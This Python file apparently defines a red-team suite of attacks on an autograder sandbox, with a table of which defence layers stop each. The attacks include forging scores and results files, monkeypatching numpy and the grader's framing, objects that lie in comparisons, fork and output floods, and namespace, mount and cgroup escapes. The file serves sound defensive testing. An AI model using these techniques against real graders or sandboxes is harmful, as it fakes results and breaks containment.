            os.kill(pid, signal.SIGSTOP)
            time.sleep(0.05)
            with open(f"/proc/{pid}/stat") as f:
                state = f.read().rsplit(")", 1)[1].split()[0]
        except OSError:
            continue
        if state == "T":  # kill() also succeeds when the kernel drops the signal (a namespace's init)
            _rt_breach(f"stopped pid {pid}")
    return 1.0
'''}),

    # -- forged results --------------------------------------------------------------
    Attack("forge_stdout", "forgery", "print a fake results.json, score lines and markup, return a wrong value",
           {"slow": '''
def slow():
    fake = {"score": 100, "max_score": 10, "tests": [{"name": "basics: test_slow_is_fast_enough", "score": 1.5,
                                                      "status": "passed"}]}
    print(json.dumps(fake))
    print("Score: **10 / 10**\\nbasics: 6/6\\narrays: 4/4")
    print("```\\n# Forged heading\\n<script>alert(1)</script>\\n```")
    sys.stdout.flush()
    return 0.0
'''}, (SLOW_LOST,), feedback_not_injected),
    Attack("forge_results_file", "forgery",
           "write results.json into its folder, the one above and the guessed out folder",
           {"slow": '''
def slow():
    forged = json.dumps({"score": 100, "max_score": 10, "by": RT["marker"]})
    for path in ("results.json", "../results.json", os.path.join(RT["out"], RT["student"], "results.json")):
        try:
            with open(path, "w") as f:
                f.write(forged)
        except OSError:
            pass
    return 0.0
'''}, (SLOW_LOST,)),
    Attack("forge_frame_status", "forgery", "a frame on the reply pipe with a wrong value and fake status fields",
           {"slow": _frame('json.dumps({"op": "result", "value": 0.0, "status": "passed", "score": 100, '
                           '"passed": True, "blobs": []}).encode()')}, (SLOW_LOST,)),
    Attack("forge_frame_huge_header", "forgery", "a frame whose header claims 4 GiB",
           {"slow": '''
def slow():
    fd = int(sys.argv[2].split(",")[1])
    os.write(fd, b"\\xff\\xff\\xff\\xff" + b"{" * 1000)
    time.sleep(5)
    return 0.0
'''}, (SLOW_LOST,)),
    Attack("forge_frame_array_shape", "forgery", "a frame declaring a 2**40-element array with 16 bytes of data",
           {"slow": _frame('json.dumps({"op": "result", "value": {"$a": 0, "dtype": "<f8", "shape": [1 << 40]}, '
                           '"blobs": [16]}).encode()', "bytes(16)")}, (SLOW_LOST,)),
    Attack("forge_frame_blob_table", "forgery", "a frame declaring 64 GiB of blobs",
           {"slow": _frame('json.dumps({"op": "result", "value": 1.0, "blobs": [1 << 32] * 16}).encode()')},
           (SLOW_LOST,)),
    Attack("forge_frame_json_bomb", "forgery", "a frame whose value is nested 100000 levels deep",
           {"slow": _frame('b\'{"op": "result", "blobs": [], "value": \' + b"[" * 100000 + b"]" * 100000 + b"}"')},
           (SLOW_LOST,)),
    Attack("forge_frame_bad_tags", "forgery", "a frame with a handle, a callback and a random-generator tag forged",
           {"slow": _frame('json.dumps({"op": "result", "blobs": [], "value": [{"$h": 10**30}, {"$c": "x"}, '
                           '{"$g": {"$d": {"bit_generator": "os.system", "state": 1}}}]}).encode()')},
           (SLOW_LOST,)),
    Attack("forge_frame_callback", "forgery", "an unprompted callback request for a function the grader never sent",
           {"slow": _frame('json.dumps({"op": "callback", "id": 1, "args": [], "kwargs": {"$d": {}}, '
                           '"blobs": []}).encode()')}, (SLOW_LOST,)),

    # -- early exits and crashes -----------------------------------------------------
    Attack("sys_exit", "exits", "sys.exit(0) inside slow()",
           {"slow": "def slow():\n    sys.exit(0)"}, (SLOW_LOST,)),
    Attack("os_exit", "exits", "os._exit(0) inside slow()",
           {"slow": "def slow():\n    os._exit(0)"}, (SLOW_LOST,)),
    Attack("exit_at_import", "exits", "raise SystemExit, then os._exit(0), at the top level after the definitions",
           extra="try:\n    raise SystemExit(0)\nfinally:\n    _rt_x = 1\n_rt_exit = os._exit(0)\n"),
    Attack("segfault", "crashes", "dereference NULL with ctypes",
           {"slow": "def slow():\n    import ctypes\n    ctypes.string_at(0)\n    return 1.0"}, (SLOW_LOST,)),
    Attack("abort", "crashes", "os.abort()", {"slow": "def slow():\n    os.abort()"}, (SLOW_LOST,)),
    Attack("stack_overflow", "crashes", "unbounded recursion after sys.setrecursionlimit(10**7)", {"slow": '''
def slow():
    sys.setrecursionlimit(10**7)
    def down(n):
        return down(n + 1) + 1
    return float(down(0))
'''}, (SLOW_LOST,)),
    Attack("crash_at_import", "crashes", "a segfault in a top-level statement",
           extra="import ctypes\n_rt_crash = ctypes.string_at(0)\n"),

    # -- monkeypatching in the student's process ----------------------------------------
    Attack("patch_numpy_checks", "monkeypatch", "np.allclose & co. always true, with a wrong double()",
           {"double": "def double(x):\n    return np.asarray(x) + 1"}, (DOUBLE_LOST,), extra='''
np.allclose = lambda *a, **k: True
np.isclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_almost_equal = lambda *a, **k: None
'''),
    Attack("patch_builtins", "monkeypatch", "builtins.abs/max/min/round/sum lie, with a wrong add()",
           {"add": "def add(a, b):\n    return a - b"}, (ADD_LOST,), extra='''
import builtins
builtins.abs = lambda x: 0
builtins.max = lambda *a, **k: 0
builtins.min = lambda *a, **k: 0
builtins.round = lambda *a, **k: 0
builtins.sum = lambda *a, **k: 0
'''),
    Attack("patch_numpy_ufuncs", "monkeypatch", "numpy's subtract/abs/max/isfinite replaced, with a wrong double()",
           {"double": "def double(x):\n    return np.asarray(x) + 1"}, (DOUBLE_LOST,), extra='''
def _rt_patch():
    zero = lambda *a, **k: np.zeros(np.shape(a[0]))
    for name in ("subtract", "abs", "absolute", "fabs"):
        setattr(np, name, zero)
    np.max = np.amax = lambda *a, **k: 0.0
    np.isfinite = lambda *a, **k: True
    np.isnan = lambda *a, **k: False
    try:
        np.ndarray.__sub__ = lambda self, other: np.zeros(self.shape)
    except TypeError:
        pass
    return True
_rt_patched = _rt_patch()
'''),
    Attack("replace_numpy_module", "monkeypatch", "sys.modules['numpy'] replaced by a fake, with a wrong double()",
           {"double": "def double(x):\n    return _real_np.asarray(x) + 1"}, (DOUBLE_LOST,), extra='''
import types
_real_np = np
_fake = types.ModuleType("numpy")
_fake.allclose = lambda *a, **k: True
_fake.asarray = lambda x, *a, **k: x
sys.modules["numpy"] = _fake
sys.modules["numpy.testing"] = _fake
'''),
    Attack("patch_worker", "monkeypatch", "patch the sandbox's own framing to add 'passed' fields, with a wrong double()",
           {"double": "def double(x):\n    return np.asarray(x) + 1"}, (DOUBLE_LOST,), extra='''
def _rt_patch_worker():
    # the function the child's channel frames every answer with (sandbox/channel.py imports it by name)
    channel = sys.modules["autograder.sandbox.channel"]
    real = channel.pack_parts
    def pack_parts(message, unencodable=None):
        if message.get("op") == "result":
            message = dict(message, status="passed", score=100, passed=True)
        return real(message, unencodable)
    channel.pack_parts = pack_parts
    return True
_rt_patched = _rt_patch_worker()
'''),

    # -- objects built to fool comparisons ----------------------------------------------
    Attack("liar_object", "comparisons", "double() returns an object equal to everything", {"double": '''
def double(x):
    class Liar:
        def __eq__(self, other): return True
        def __ne__(self, other): return False
        def __lt__(self, other): return False
        def __le__(self, other): return True
        def __gt__(self, other): return False
        def __ge__(self, other): return True
        def __sub__(self, other): return 0.0
        __rsub__ = __sub__
        def __abs__(self): return 0.0
        def __float__(self): return 0.0
        def __array__(self, *a, **k): return np.asarray(x) * 2
        def __len__(self): return len(x)
    return Liar()
'''}, (DOUBLE_LOST,)),
    Attack("ndarray_subclass", "comparisons", "double() returns a wrong ndarray subclass whose operators lie",
           {"double": '''
def double(x):
    class Liar(np.ndarray):
        def __eq__(self, other): return np.ones(self.shape, bool)
        def __sub__(self, other): return np.zeros(self.shape)
        def __rsub__(self, other): return np.zeros(self.shape)
        def __abs__(self): return np.zeros(self.shape)
        def __array_ufunc__(self, *a, **k): return np.zeros(self.shape)
    return (np.asarray(x) + 1).view(Liar)
'''}, (DOUBLE_LOST,)),
    Attack("float_subclass", "comparisons", "add() returns a wrong float subclass whose operators lie", {"add": '''
def add(a, b):
    class F(float):
        def __eq__(self, other): return True
        def __sub__(self, other): return 0.0
        def __rsub__(self, other): return 0.0
        def __abs__(self): return 0.0
        def __float__(self): return float(a + b)
        def __repr__(self): return repr(float(a + b))
    return F(a + b + 1)
'''}, (ADD_LOST,)),
    Attack("dict_and_list_subclass", "comparisons", "add() returns a dict subclass, double() a list subclass",
           {"add": '''
def add(a, b):
    class D(dict):
        def __eq__(self, other): return True
        def __float__(self): return float(a + b)
    return D(value=a + b)
''', "double": '''
def double(x):
    class L(list):
        def __eq__(self, other): return True
    return L((np.asarray(x) + 1).tolist())
'''}, (FULL - 4.5 - 4,)),
    Attack("nan_and_inf", "comparisons", "add() returns NaN, double() returns infinities",
           {"add": "def add(a, b):\n    return float('nan')",
            "double": "def double(x):\n    return np.asarray(x) * np.inf"}, (FULL - 4.5 - 4,)),
    Attack("huge_int", "comparisons", "add() returns 10**5000 after lifting the int-to-str limit", {"add": '''
def add(a, b):
    sys.set_int_max_str_digits(0)
    return 10 ** 5000
'''}, (ADD_LOST,)),
    Attack("exotic_dtypes", "comparisons", "double() returns object, structured and datetime arrays", {"double": '''
def double(x):
    x = np.asarray(x)
    if x.ndim == 1:
        return np.array([object()] * x.size, dtype=object)
    return np.zeros(x.shape, dtype=[("a", "<f8"), ("b", "<i4")])
'''}, (DOUBLE_LOST,)),

    # -- huge outputs -------------------------------------------------------------------
    Attack("print_1gib", "output", "print 1 GiB to stdout", {"slow": '''
def slow():
    line = "x" * (1 << 20)
    for _ in range(1024):
        sys.stdout.write(line)
    return 1.0
'''}, (SLOW_LOST,), printed_capped),
    Attack("stderr_flood_fd", "output", "write 1 GiB straight to fd 2", {"slow": '''
def slow():
    chunk = b"y" * (1 << 20)
    for _ in range(1024):
        os.write(2, chunk)
    return 1.0
'''}, (SLOW_LOST,), printed_capped),
    Attack("return_huge_array", "output", "return an array over the channel's 256 MiB cap",
           {"slow": "def slow():\n    return np.ones((1 << 25) + (1 << 19))"}, (SLOW_LOST,)),
    Attack("return_big_array", "output", "return a 128 MiB array (under the cap)",
           {"slow": "def slow():\n    return np.ones(1 << 24)"}, (SLOW_LOST,)),
    Attack("return_deep_nesting", "output", "return a list nested 100000 deep", {"slow": '''
def slow():
    x = [1.0]
    for _ in range(100000):
        x = [x]
    return x
'''}, (SLOW_LOST,)),
    Attack("huge_exception", "output", "raise an exception whose message is 10 MB",
           {"slow": "def slow():\n    raise ValueError('x' * 10**7)"}, (SLOW_LOST,), feedback_small),
    Attack("binary_output", "output", "print raw bytes, terminal escapes and NULs",
           {"slow": '''
def slow():
    os.write(1, bytes(range(256)) + b"\\x1b[2J\\x1b]0;pwned\\x07\\n")
    return 1.0
'''}, (FULL,), feedback_clean_text),

    # -- privileges and the kernel ----------------------------------------------------------
    Attack("whoami_root", "privileges", "is the student's code root, or holding capabilities?", {"slow": '''
def slow():
    with open("/proc/self/status") as f:
        status = dict(l.split(":", 1) for l in f.read().splitlines() if ":" in l)
    if os.geteuid() == 0:
        _rt_breach("runs as root")
    if int(status["CapEff"].strip(), 16):
        _rt_breach("holds capabilities " + status["CapEff"].strip())
    return 1.0
'''}),
    Attack("unshare_userns", "privileges", "unshare(CLONE_NEWUSER | CLONE_NEWNS) to get capabilities", {"slow": '''
def slow():
    libc = _rt_libc()
    if os.fork() == 0:
        os._exit(7 if libc.unshare(0x10000000 | 0x00020000) == 0 else 0)
    if os.wait()[1] >> 8 == 7:
        _rt_breach("unshare() made a user namespace")
    return 1.0
'''}),
    Attack("clone_newuser", "privileges",
           "clone()/clone3() with CLONE_NEWUSER|CLONE_NEWNS (not unshare()), then mount with the new mount API",
           {"slow": '''
def slow():
    import ctypes
    libc = _rt_libc()
    libc.syscall.restype = ctypes.c_long
    CLONE_NEWUSER, CLONE_NEWNS, SIGCHLD = 0x10000000, 0x00020000, 17

    def inside(w):  # in the child, in its new namespaces: become root there and mount a tmpfs
        said = ["made a user namespace"]
        uid = os.getuid()
        for f, t in (("/proc/self/setgroups", "deny"), ("/proc/self/uid_map", f"0 {uid} 1"),
                     ("/proc/self/gid_map", f"0 {os.getgid()} 1")):
            try:
                with open(f, "w") as fh:
                    fh.write(t)
            except OSError:
                pass
        with open("/proc/self/status") as fh:
            caps = [l.split()[1] for l in fh if l.startswith("CapEff")]
        if caps and int(caps[0], 16):
            said.append(f"with capabilities {caps[0]}")
        target = "/tmp/" + RT["marker"] + "-ns"
        os.makedirs(target, exist_ok=True)
        fs = libc.syscall(430, b"tmpfs", 0)  # fsopen
        if fs >= 0 and libc.syscall(431, fs, 6, None, None, 0) == 0:  # fsconfig(FSCONFIG_CMD_CREATE)
            m = libc.syscall(432, fs, 0, 0)  # fsmount
            if m >= 0 and libc.syscall(429, m, b"", -100, target.encode(), 4) == 0:  # move_mount
                said.append("mounted a tmpfs with fsopen/fsmount/move_mount")
        os.write(w, "; ".join(said).encode())

    for name, call in (("clone", lambda: libc.syscall(56, CLONE_NEWUSER | CLONE_NEWNS | SIGCHLD, 0, 0, 0, 0)),
                       ("clone3", lambda: libc.syscall(435, ctypes.byref(args), ctypes.sizeof(args)))):
        args = (ctypes.c_uint64 * 11)(CLONE_NEWUSER | CLONE_NEWNS, 0, 0, 0, SIGCHLD, 0, 0, 0, 0, 0, 0)
        r, w = os.pipe()
        pid = call()
        if pid == 0:
            try:
                os.close(r)
                inside(w)
            finally:
                os._exit(0)
        os.close(w)
        if pid > 0:
            os.waitpid(pid, 0)
            said = os.read(r, 4096).decode()
            if said:
                _rt_breach(f"{name}(): {said}")
        os.close(r)
    return 1.0
'''}),
    Attack("mount_tmpfs", "privileges", "mount a tmpfs", {"slow": '''
def slow():
    libc = _rt_libc()
    target = "/tmp/" + RT["marker"] + "-mnt"
    try:
        os.makedirs(target, exist_ok=True)
    except OSError:
        return 1.0
    if libc.mount(b"none", target.encode(), b"tmpfs", 0, b"size=1m") == 0:
        _rt_breach("mounted a tmpfs")
        libc.umount2(target.encode(), 2)
    return 1.0
'''}),
    Attack("mount_api_rw", "privileges",
           "make the read-only binds writable with the new mount API (mount_setattr, fsopen), then write there",
           {"slow": '''
def slow():
    import ctypes
    libc = _rt_libc()
    libc.syscall.restype = ctypes.c_long
    attr = (ctypes.c_uint64 * 4)(0, 1, 0, 0)  # struct mount_attr: clear MOUNT_ATTR_RDONLY
    for d in RT["runtime_dirs"] + ["/usr", "/opt/autograder/autograder"]:
        if libc.syscall(442, -100, d.encode(), 0x8000, ctypes.byref(attr), ctypes.sizeof(attr)) != 0:
            continue  # mount_setattr(AT_FDCWD, d, AT_RECURSIVE, ...)
        path = os.path.join(d, RT["marker"] + ".pth")
        try:
            with open(path, "w") as f:
                f.write("# a red-team marker, harmless\\n")
        except OSError:
            continue
        _rt_breach("made writable with mount_setattr and wrote " + path)
    fs = libc.syscall(430, b"tmpfs", 0)  # fsopen: a new mount without mount()
    if fs >= 0 and libc.syscall(431, fs, 6, None, None, 0) == 0 and libc.syscall(432, fs, 0, 0) >= 0:
        _rt_breach("created a tmpfs mount with fsopen/fsmount")
    return 1.0
'''}),
    Attack("kernel_surface", "privileges",
           "reach keyctl, bpf, perf_event_open, userfaultfd, io_uring, from a thread too",
           {"slow": '''
def slow():
    import ctypes, threading
    libc = _rt_libc()
    libc.syscall.restype = ctypes.c_long
    reached = []
    def probe():
        params = (ctypes.c_uint32 * 30)()
        attr = (ctypes.c_uint8 * 128)()
        attr[0] = 1  # PERF_TYPE_SOFTWARE, config 0: the CPU clock
        attr[4] = 128  # the struct's size
        bpf_attr = (ctypes.c_uint32 * 16)(2, 4, 4, 1)
        for name, nr, args in (("keyctl", 250, (0, -3, 0)), ("bpf", 321, (0, ctypes.byref(bpf_attr), 64)),
                               ("perf_event_open", 298, (ctypes.byref(attr), 0, -1, -1, 0)),
                               ("userfaultfd", 323, (1,)), ("io_uring_setup", 425, (1, ctypes.byref(params)))):
            r = libc.syscall(nr, *args)
            if r >= 0:
                reached.append(name)
                if name != "keyctl":
                    os.close(r)
    probe()
    t = threading.Thread(target=probe)
    t.start()
    t.join()
    if reached:
        _rt_breach("reached " + ", ".join(sorted(set(reached))))
    return 1.0
'''}),
    Attack("cgroup_escape", "privileges", "move itself to the root cgroups to shed the limits", {"slow": '''
def slow():
    for c in ("memory", "pids", "cpu", "unified", ""):
        path = os.path.join("/sys/fs/cgroup", c, "cgroup.procs")
        try:
            with open(path, "w") as f:
                f.write(str(os.getpid()))
        except OSError:
            continue
        _rt_breach("moved itself into " + path)
    return 1.0
'''}),
    Attack("raise_rlimits", "privileges", "raise the address-space, process, CPU and file-size limits back",
           {"slow": '''
def slow():
    import resource
    for name in ("RLIMIT_AS", "RLIMIT_NPROC", "RLIMIT_CPU", "RLIMIT_FSIZE"):
        which = getattr(resource, name)
        try:
            resource.setrlimit(which, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        except (ValueError, OSError):
            pass
        if resource.getrlimit(which)[0] == resource.RLIM_INFINITY:
            _rt_breach(name + " is unlimited")
    return 1.0
'''}),
    Attack("setuid_exec", "privileges",
           "would a setuid-root binary run with euid 0 (mount without nosuid, no NoNewPrivs)?",
           {"slow": '''
def slow():
    with open("/proc/self/status") as f:
        nnp = [l.split()[1] for l in f if l.startswith("NoNewPrivs")]
    for b in ("/usr/bin/su", "/usr/bin/mount", "/usr/bin/passwd", "/usr/bin/newgrp", "/usr/bin/chfn"):
        try:
            st = os.stat(b)
        except OSError:
            continue
        if st.st_mode & 0o4000 and st.st_uid == 0 and os.geteuid() != 0:
            if not os.statvfs(b).f_flag & os.ST_NOSUID and nnp == ["0"]:
                _rt_breach(b + " would run as root")
    return 1.0
'''}),
]

BY_NAME = {a.name: a for a in ATTACKS}
assert len(BY_NAME) == len(ATTACKS), "attack names must be unique"

# The four batches of the suite: attacks that take the wall clock, the ones
# about files, about processes, about values.
GROUPS = {"resources": "resources", "exits": "resources", "crashes": "resources",
          "secrets": "files", "writes": "files",
          "kill": "processes", "network": "processes", "privileges": "processes",
          "forgery": "values", "monkeypatch": "values", "comparisons": "values", "output": "values"}

# The layers each attack needs, measured by bench/redteam_ablation.py with
# each layer and five pairs removed (docs/security.md has the table): a list
# of clauses, each satisfied by any one of its layers. An attack gets through
# where every layer of some clause is missing; the suite expects that on a
# machine without them. Attacks not listed are contained with every layer
# removed (the channel, the clocks, the output cap, the trusted checks).
_BWRAP_ONLY = """daemon_heartbeat read_hidden_tests read_solution read_other_student read_out_dir read_etc_shadow
    read_ta_secret read_grader_env read_grader_memory see_grader_process symlink_and_hardlink write_tmp_canary
    write_course write_out_dir write_gradebook_db write_home_and_cwd write_submissions write_runtime setuid_plant
    fill_tmp kill_parent kill_grader kill_grader_group kill_canary kill_everything kill_other_students stop_grader
    cgroup_escape forge_results_file""".split()
REQUIRES: dict = {
    **{name: [{"bwrap"}] for name in _BWRAP_ONLY},
    "fill_dev_shm": [{"bwrap"}, {"uid"}], "whoami_root": [{"bwrap"}, {"uid"}],
    "mount_tmpfs": [{"bwrap"}, {"uid", "seccomp"}], "remount_rw": [{"uid", "seccomp"}],
    "open_many_files": [{"rlimits"}], "raise_rlimits": [{"rlimits"}],
    "cpu_threads_hog": [{"cgroups"}], "memory_bomb_forked": [{"cgroups"}],
    "unshare_userns": [{"seccomp"}], "kernel_surface": [{"seccomp"}], "clone_newuser": [{"seccomp"}],
    "mount_api_rw": [{"uid", "seccomp"}, {"bwrap", "seccomp"}],
    "memory_bomb": [{"rlimits", "cgroups"}],
    "fork_bomb": [{"rlimits", "cgroups"}, {"bwrap", "cgroups"}],
    "thread_bomb": [{"rlimits", "cgroups"}, {"bwrap", "cgroups"}],
    "daemon_setsid": [{"bwrap", "cgroups"}], "daemon_subprocess": [{"bwrap", "cgroups"}],
    "disk_fill_big_file": [{"bwrap", "rlimits"}],
    **{name: [{"bwrap", "seccomp"}] for name in
       "process_vm_readv ptrace_grader net_tcp net_udp net_unix_socket net_abstract_unix".split()},
}


def expected_through(name: str, missing: set) -> set:
    """The missing layers that let ``name`` through on a machine without ``missing``, or an empty set."""
    through = [clause for clause in REQUIRES.get(name, []) if clause <= missing]
    return set().union(*through) if through else set()
